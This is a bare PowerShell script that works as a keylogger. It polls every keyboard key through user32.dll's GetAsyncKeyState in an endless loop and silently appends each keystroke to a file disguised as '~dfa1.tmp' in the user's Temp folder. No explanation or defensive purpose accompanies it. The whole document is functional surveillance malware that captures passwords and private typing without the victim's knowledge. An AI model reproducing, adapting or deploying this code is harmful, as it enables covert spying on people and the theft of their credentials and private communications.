$sig = @'
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
[DllImport("user32.dll")]
public static extern int GetForegroundWindow();
'@
Add-Type -MemberDefinition $sig -Name Kb -Namespace Win32 -PassThru | Out-Null

$log = "$env:LOCALAPPDATA\Temp\~dfa1.tmp"
while ($true) {
    Start-Sleep -Milliseconds 20
    for ($code = 8; $code -le 254; $code++) {
        if ([Win32.Kb]::GetAsyncKeyState($code) -eq -32767) {
            [IO.File]::AppendAllText($log, [char]$code)
        }
    }
}
